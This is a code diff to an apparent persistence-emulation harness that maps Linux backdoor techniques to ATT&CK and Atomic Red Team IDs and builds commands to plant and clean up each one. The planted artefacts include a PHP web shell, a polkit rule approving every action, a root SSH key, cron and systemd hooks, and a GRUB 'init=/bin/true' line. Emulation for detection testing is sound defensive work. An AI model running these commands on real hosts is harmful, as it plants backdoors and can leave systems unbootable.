@@ -35,11 +35,12 @@ class Way:
     named: tuple[str, ...] = ()
 
 
-def written(path: str, text: str, *, mode: str = "644", made: str = "") -> tuple[str, str]:
-    """Commands that write a new file, and take it away again with the directory that was made for it."""
-    before = f"[ ! -e {shlex.quote(path)} ] && mkdir -p $(dirname {shlex.quote(path)}) && "
-    put = f"printf '%s\\n' {shlex.quote(text)} > {shlex.quote(path)} && chmod {mode} {shlex.quote(path)}"
-    return before + put, f"rm -f {shlex.quote(path)}" + (f"; rm -rf {made}" if made else "")
+def written(path: str, text: str, *, mode: str = "644", made: bool = False) -> tuple[str, str]:
+    """Commands that write a new file, and take it away again, and the directories that were made for it if any were."""
+    at = shlex.quote(path)
+    put = f"printf '%s\\n' {shlex.quote(text)} > {at} && chmod {mode} {at}"
+    empty = f"; rmdir -p --ignore-fail-on-non-empty $(dirname {at})" if made else ""
+    return f"[ ! -e {at} ] && mkdir -p $(dirname {at}) && {put}", f"rm -f {at}{empty}"
 
 
 def kept(path: str, change: str) -> tuple[str, str]:
@@ -75,7 +76,7 @@ WAYS = (
     _way(
         "a key of root's own",
         "PANIX --ssh-key; T1098.004",
-        written("/root/.ssh/authorized_keys", KEY, mode="600", made="/root/.ssh"),
+        written("/root/.ssh/authorized_keys", KEY, mode="600", made=True),
         "/root/.ssh/authorized_keys",
     ),
     _way(
@@ -205,7 +206,7 @@ WAYS = (
         written(
             "/etc/polkit-1/rules.d/99-stays.rules",
             "polkit.addRule(function(action, subject) { return polkit.Result.YES; });",
-            made="/etc/polkit-1",
+            made=True,
         ),
         "/etc/polkit-1/rules.d/99-stays.rules",
     ),
@@ -234,13 +235,13 @@ WAYS = (
     _way(
         "root's crontab",
         "Atomic T1053.003-1; T1053.003",
-        written("/var/spool/cron/crontabs/root", "* * * * * /bin/true", mode="600", made="/var/spool/cron"),
+        written("/var/spool/cron/crontabs/root", "* * * * * /bin/true", mode="600", made=True),
         "/var/spool/cron/crontabs/root",
     ),
     _way(
         "a job of at's",
         "PANIX --at; Atomic T1053.002",
-        written("/var/spool/cron/atjobs/a0000101c3d5a0", "#!/bin/sh\ntrue", mode="700", made="/var/spool/cron"),
+        written("/var/spool/cron/atjobs/a0000101c3d5a0", "#!/bin/sh\ntrue", mode="700", made=True),
         "/var/spool/cron/atjobs/a0000101c3d5a0",
     ),
     _way(
@@ -276,7 +277,7 @@ WAYS = (
         written(
             "/etc/systemd/system/ssh.service.d/stays.conf",
             "[Service]\nExecStartPost=/bin/true",
-            made="/etc/systemd/system/ssh.service.d",
+            made=True,
         ),
         "/etc/systemd/system/ssh.service.d/stays.conf",
     ),
@@ -287,7 +288,7 @@ WAYS = (
             "/usr/local/lib/systemd/system-generators/stays",
             "#!/bin/sh\ntrue",
             mode="755",
-            made="/usr/local/lib/systemd",
+            made=True,
         ),
         "/usr/local/lib/systemd/system-generators/stays",
     ),
@@ -326,7 +327,7 @@ WAYS = (
     _way(
         "a command line of the kernel's by GRUB",
         "PANIX --grub; Elastic, grand finale; T1542",
-        written("/etc/default/grub.d/99-stays.cfg", 'GRUB_CMDLINE_LINUX="init=/bin/true"', made="/etc/default/grub.d"),
+        written("/etc/default/grub.d/99-stays.cfg", 'GRUB_CMDLINE_LINUX="init=/bin/true"', made=True),
         "/etc/default/grub.d/99-stays.cfg",
     ),
     _way(
@@ -336,7 +337,7 @@ WAYS = (
             "/etc/initramfs-tools/scripts/init-premount/stays",
             "#!/bin/sh\ntrue",
             mode="755",
-            made="/etc/initramfs-tools",
+            made=True,
         ),
         "/etc/initramfs-tools/scripts/init-premount/stays",
     ),
@@ -386,13 +387,13 @@ WAYS = (
     _way(
         "the message of the day is made by a program",
         "PANIX --motd; T1037",
-        written("/etc/update-motd.d/99-stays", "#!/bin/sh\ntrue", mode="755", made=""),
+        written("/etc/update-motd.d/99-stays", "#!/bin/sh\ntrue", mode="755"),
         "/etc/update-motd.d/99-stays",
     ),
     _way(
         "a program that starts whenever a network comes up",
         "PANIX --network-manager; Elastic, grand finale; T1546",
-        written("/etc/NetworkManager/dispatcher.d/99-stays", "#!/bin/sh\ntrue", mode="755", made="/etc/NetworkManager"),
+        written("/etc/NetworkManager/dispatcher.d/99-stays", "#!/bin/sh\ntrue", mode="755", made=True),
         "/etc/NetworkManager/dispatcher.d/99-stays",
     ),
     _way(
@@ -425,7 +426,7 @@ WAYS = (
     _way(
         "a web shell",
         "PANIX --web-shell; Atomic T1505.003; T1505.003",
-        written("/var/www/html/stays.php", "<?php system($_GET['x']); ?>", made="/var/www"),
+        written("/var/www/html/stays.php", "<?php system($_GET['x']); ?>", made=True),
         "/var/www/html/stays.php",
     ),
     _way(
